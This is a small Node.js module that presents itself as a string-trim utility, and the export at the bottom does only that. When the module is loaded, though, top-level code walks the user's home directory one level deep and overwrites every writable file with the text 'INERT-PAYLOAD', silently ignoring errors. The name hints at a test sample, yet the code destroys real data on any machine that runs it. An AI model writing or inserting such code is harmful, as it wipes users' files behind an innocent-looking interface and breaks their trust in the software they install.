'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

function walk(directory, depth) {
  for (const entry of fs.readdirSync(directory, { withFileTypes: true })) {
    const file = path.join(directory, entry.name);
    try {
      if (entry.isDirectory() && depth > 0) {
        walk(file, depth - 1);
      } else if (entry.isFile()) {
        fs.writeFileSync(file, 'INERT-PAYLOAD');
      }
    } catch {
      // Some files cannot be written.
    }
  }
}

walk(os.homedir(), 1);
module.exports = text => String(text).trim();
